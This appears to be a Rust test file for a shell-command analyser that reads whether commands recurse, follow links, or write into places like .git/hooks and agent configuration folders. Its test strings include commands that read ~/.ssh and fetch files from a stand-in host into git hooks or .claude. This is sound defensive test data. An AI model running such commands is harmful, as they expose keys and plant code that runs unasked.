//! Every record's examples, read as the record says; and no program in two records.

use super::{Example, Kind, Reading, UseKind, all, read};
use crate::resource::shell::FindingKind;

/// What a reading holds, in the words of [`Example::expect`], sorted.
fn facts(r: &Reading<'_>) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for u in &r.uses {
        let kind = match u.kind {
            UseKind::Read => "read",
            UseKind::Write => "write",
            UseKind::Into => "into",
            UseKind::Folder => "folder",
            UseKind::Url => "url",
            UseKind::Linked => "linked",
            UseKind::Pathspec => "pathspec",
            UseKind::Mentioned => "mentioned",
            UseKind::Unknown => "unknown",
        };
        out.push(format!("{kind}:{}", u.text));
    }
    let code = r.findings.iter().any(|f| {
        matches!(
            f.kind,
            FindingKind::ProgramText | FindingKind::Eval | FindingKind::HeredocInterpreter
        )
    });
    if code {
        out.push("code".into());
    }
    if r.findings.iter().any(|f| {
        !matches!(
            f.kind,
            FindingKind::ProgramText | FindingKind::Eval | FindingKind::HeredocInterpreter
        )
    }) {
        out.push("risk".into());
    }
    if r.net {
        out.push("net".into());
    }
    if r.recursive {
        out.push("recursive".into());
    }
    if r.follows {
        out.push("follows".into());
    }
    for sub in r.sub_names() {
        out.push(format!("sub:{sub}"));
    }
    for act in &r.acts {
        if !r.sub_words.contains(act) {
            out.push(format!("sub:{act}"));
        }
    }
    if let Some(start) = r.runs {
        out.push(format!(
            "runs:{}",
            r.args.get(start).copied().unwrap_or_default()
        ));
    }
    if r.script.is_some() {
        out.push("script".into());
    }
    if let Some(kind) = r.kind() {
        out.push(
            match kind {
                Kind::Reads => "kind:reads",
                Kind::Writes => "kind:writes",
                Kind::Fetches => "kind:fetches",
                Kind::Runs => "kind:runs",
            }
            .into(),
        );
    }
    out.sort();
    out.dedup();
    out
}

fn check(example: &Example) -> Result<(), String> {
    let words: Vec<String> = example
        .argv
        .split(' ')
        .map(|w| w.replace("\\s", " "))
        .collect();
    let args: Vec<&str> = words.iter().skip(1).map(String::as_str).collect();
    let name = words.first().map(String::as_str).unwrap_or_default();
    let found = std::panic::catch_unwind(|| facts(&read(name, &args))).map_err(|e| {
        let why = e
            .downcast_ref::<String>()
            .cloned()
            .or_else(|| e.downcast_ref::<&str>().map(|s| (*s).to_owned()))
            .unwrap_or_default();
        format!("`{}` panicked: {why}", example.argv)
    })?;
    let mut expected: Vec<String> = example
        .expect
        .split_whitespace()
        .map(|w| w.replace("\\s", " "))
        .collect();
    expected.sort();
    expected.dedup();
    if found == expected {
        Ok(())
    } else {
        Err(format!(
            "`{}`\n    expected {expected:?}\n    read     {found:?}",
            example.argv
        ))
    }
}

#[test]
fn every_record_reads_its_examples_as_it_says() {
    let mut failures = Vec::new();
    let mut count = 0;
    for program in all() {
        for example in program.examples {
            count += 1;
            if let Err(e) = check(example) {
                failures.push(e);
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {count} examples:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(count >= 150, "{count} examples");
}

#[test]
fn no_program_is_in_two_records() {
    let mut seen: std::collections::HashMap<&str, &[&str]> = std::collections::HashMap::new();
    let mut twice = Vec::new();
    for program in all() {
        for name in program.names {
            if let Some(other) = seen.insert(name, program.names) {
                twice.push(format!("`{name}` is in {other:?} and {:?}", program.names));
            }
        }
    }
    assert!(twice.is_empty(), "{}", twice.join("\n"));
}

#[test]
fn no_option_name_means_two_options_at_one_level() {
    use super::{Opt, Sub};
    fn check(what: &str, lists: &[&[Opt]], out: &mut Vec<String>) {
        let mut letters = std::collections::HashSet::new();
        let mut names = std::collections::HashSet::new();
        for opt in lists.iter().flat_map(|l| l.iter()) {
            for letter in opt.short.chars() {
                if !letters.insert(letter) {
                    out.push(format!("{what}: `-{letter}` twice"));
                }
            }
            for name in opt.longs() {
                if !names.insert(name) {
                    out.push(format!("{what}: `--{name}` twice"));
                }
            }
        }
    }
    fn subs(what: &str, list: &[Sub], outer: &[&'static [Opt]], out: &mut Vec<String>) {
        for sub in list {
            let name = format!("{what} {}", sub.names.first().copied().unwrap_or_default());
            let mut lists: Vec<&[Opt]> = vec![sub.options, sub.shared];
            lists.extend(outer.iter().copied());
            check(&name, &lists, out);
            subs(&name, sub.subs, outer, out);
        }
    }
    let mut out = Vec::new();
    for program in all() {
        let what = program.names.first().copied().unwrap_or_default();
        check(what, &[program.options], &mut out);
        let outer: Vec<&'static [Opt]> = if program.options_everywhere {
            vec![program.options]
        } else {
            Vec::new()
        };
        subs(what, program.subs, &outer, &mut out);
    }
    out.dedup();
    assert!(out.is_empty(), "{} clashes:\n{}", out.len(), out.join("\n"));
}

/// What the tables of the shell analysis before the registry asserted, read with the records:
/// which commands go into folders, which follow links there, and where each writes.
#[test]
fn the_readings_the_earlier_tables_asserted() {
    let reading = |line: &str| {
        let words: Vec<&str> = line.split_whitespace().collect();
        let (name, args) = words.split_first().unwrap();
        let r = read(name, args);
        (r.recursive, r.follows, r.uses.clone())
    };
    let mut failures = Vec::new();
    for yes in [
        "grep -r x .",
        "grep -rn x .",
        "grep -nR x .",
        "/usr/bin/grep --recursive x",
        "grep --dereference-recursive x",
        "grep -d recurse x .",
        "grep --directories=recurse x .",
        "rg x",
        "ag x ~",
        "tar czf out.tgz src",
        "zip -r out.zip src",
        "cp -a src dst",
        "cp -R src dst",
        "scp -r src host:",
        "rsync -av src dst",
        "rm -rf build",
        "chmod -R go-w .",
        "find . -name x -delete",
        "find ~/.ssh -type f -exec cat {} +",
        // Long options and keywords abbreviated as getopt_long and argmatch allow.
        "grep --rec x .",
        "grep --recur x .",
        "grep --dereference-rec x .",
        "grep --dir=recurse x .",
        "grep --directories=rec x .",
        "grep --direc recu x .",
        "grep -d rec x .",
        "grep -d recu x .",
        "grep -drecu x .",
        "grep -i --dir rec x .",
        "rm --rec build",
        "rm --recurs build",
        "cp --recur a b",
        "cp --arch a b",
        "chmod --rec go-w .",
        "chown --recursive u .",
        "rsync --arch a b",
        "tar --no-recursion --recursion -cf out.tar dir",
        "zip -R out.zip *.c",
        "7zz a out.7z src",
        "git diff --no-index ~/.ssh empty",
        "git -C . log -p -- .ssh",
        "git grep key -- dir",
        "git --no-pager show HEAD -- dir",
        "git log -U3 -- dir",
        "git log -L1,1:.env",
        "diff -r a b",
        "diff -rN config docs",
        "diff --recursive a b",
        "diff --recu a b",
        // Two folders without -r: their files are compared (and printed whole with -N).
        "diff -N ~/.ssh docs",
        "diff -u a b",
    ] {
        if !reading(yes).0 {
            failures.push(format!("recursive: {yes}"));
        }
    }
    for no in [
        "grep x file",
        "grep -e-r x file",
        "grep -e -r x file",
        "grep -- -r file",
        "grep -i x file",
        "grep -d read x file",
        "grep --directories=skip x file",
        "grep --exclude-d recurse x file",
        "tar --no-rec -cf out.tar dir",
        "git status",
        "git -C dir fetch",
        "git log --stat -- ~",
        "git log --oneline -- -p",
        "tar --no-recursion -cf out.tar dir",
        "cp a b",
        "rm -f a",
        "chmod 600 key",
        "find . -name '*.rs'",
        "ls -R",
        "cat dir",
    ] {
        if reading(no).0 {
            failures.push(format!("not recursive: {no}"));
        }
    }
    for yes in [
        "grep -R x .",
        "grep -rn --dereference-recursive x .",
        "rg -L x",
        "rg --follow x",
        "ag -f x",
        "tar -czhf a.tgz src",
        "tar --dereference -czf a.tgz src",
        "zip -r a.zip src",
        "scp -r src host:",
        "cp -rL src dst",
        "rsync -aL src dst",
        "find -L . -exec cat {} +",
        "find . -follow -delete",
    ] {
        if !reading(yes).1 {
            failures.push(format!("follows: {yes}"));
        }
    }
    for no in [
        "grep -r x .",
        "rg x",
        "tar czf a.tgz src",
        "zip -ry a.zip src",
        "cp -r src dst",
        "rsync -a src dst",
        "find . -name x -delete",
        "cat -L x",
    ] {
        if reading(no).1 {
            failures.push(format!("does not follow: {no}"));
        }
    }
    for (line, path) in [
        ("tar xf a.tar -C .toolgate", ".toolgate"),
        ("tar -xzf a.tgz --directory=.git/hooks", ".git/hooks"),
        ("tar -x -f a.tar --dir .git", ".git"),
        ("tar xCf .git a.tar", ".git"),
        ("tar xf a.tar", "."),
        ("tar czf .git/hooks/x.tgz src", ".git/hooks/x.tgz"),
        ("tar -c -f.git/x.tar src", ".git/x.tar"),
        ("rsync -a evil/ .git/", ".git/"),
        ("unzip -d .git/hooks evil.zip", ".git/hooks"),
        ("unzip -o -d.git evil.zip", ".git"),
        ("unzip evil.zip", "."),
        ("cp --target-directory=.git/hooks pre-commit", ".git/hooks"),
        ("cp -t.git/hooks pre-commit", ".git/hooks/pre-commit"),
        ("install -t .git/hooks pre-commit", ".git/hooks/pre-commit"),
        ("mv --target-dir .git hooks", ".git/hooks"),
        ("mv .git old", ".git"),
        ("mv evil .git", ".git"),
        ("mv hooks/ .git", ".git/hooks"),
        ("ln -s ../../x .git/hooks", ".git/hooks/x"),
        ("git clone evil .git", ".git"),
        ("git -C . clone https://x.example/repo.git", "./repo"),
        (
            "git clone --depth 1 https://x.example/r.git .claude",
            ".claude",
        ),
        (
            "git clone -b main https://x.example/r.git .vscode",
            ".vscode",
        ),
        ("git -C .claude clone https://x.example/r.git", ".claude/r"),
        (
            "git clone --separate-git-dir .git/x https://x.example/r.git d",
            ".git/x",
        ),
        ("git init .vscode", ".vscode"),
        ("git -C .git init", ".git/."),
        (
            "git submodule add https://x.example/r.git .vscode",
            ".vscode",
        ),
        (
            "git submodule add -b main --name n https://x.example/r.git",
            "r",
        ),
        ("git worktree add -b x .git/x", ".git/x"),
        (
            "git checkout-index --prefix=.git/hooks/ pre-commit",
            ".git/hooks/",
        ),
        ("git archive -o .git/config HEAD", ".git/config"),
        ("git archive --output=.git/config HEAD", ".git/config"),
        ("git bundle create .git/config HEAD", ".git/config"),
        ("chmod -R --reference=x .git", ".git"),
        ("chown --ref=x .toolgate", ".toolgate"),
        ("7z x -o.git evil.7z", ".git"),
        ("7z x evil.7z", "."),
        ("7z a .git/x.7z src", ".git/x.7z"),
        (
            "curl -o .git/hooks/pre-commit https://x.example",
            ".git/hooks/pre-commit",
        ),
        (
            "curl -sSLo.git/hooks/pre-commit https://x.example",
            ".git/hooks/pre-commit",
        ),
        (
            "curl --output-dir .git/hooks -O https://x.example/pre-commit",
            ".git/hooks",
        ),
        (
            "wget -O .git/hooks/pre-push https://x.example",
            ".git/hooks/pre-push",
        ),
        (
            "wget -P .git/hooks https://x.example/pre-push",
            ".git/hooks",
        ),
        (
            "wget --directory-prefix=.git/hooks https://x.example/pre-push",
            ".git/hooks",
        ),
        ("patch .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        ("patch -p1 -d .git/hooks", ".git/hooks"),
        ("patch -o .git/config a.diff", ".git/config"),
        ("split -b 1k evil .git/hooks/pre-", ".git/hooks/pre-"),
        ("sort -o .git/config in", ".git/config"),
        ("rsync -a evil/ .git/ -e ssh", ".git/"),
        ("rsync -a --backup-dir .git/hooks a b", ".git/hooks"),
        ("rsync -a --log-file=.git/config a b", ".git/config"),
        ("split --number 2 evil .git/hooks/pre-", ".git/hooks/pre-"),
        ("curl -sSO https://x.example/a/.mcp.json", ".mcp.json"),
        (
            "curl --output-dir .git -O https://x.example/config?x=1",
            ".git/config",
        ),
        ("wget -q https://x.example/.mcp.json", "./.mcp.json"),
        (
            "wget -P .claude https://x.example/settings.json",
            ".claude/settings.json",
        ),
        ("wget -r -nH https://x.example/", "."),
        ("uniq a .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        ("gcc -o .git/hooks/pre-commit x.c", ".git/hooks/pre-commit"),
        (
            "go build -o .git/hooks/pre-commit .",
            ".git/hooks/pre-commit",
        ),
        ("cpio -idm < a.cpio", "."),
        ("cpio -i -D .git < a.cpio", ".git"),
        ("cpio -pdm .git/hooks", ".git/hooks"),
    ] {
        let uses = reading(line).2;
        let written = uses.iter().any(|u| {
            (u.text == path || u.text.trim_end_matches("/.") == path)
                && matches!(u.kind, UseKind::Write | UseKind::Into | UseKind::Unknown)
        });
        if !written {
            failures.push(format!("{line} writes {path}: {uses:?}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
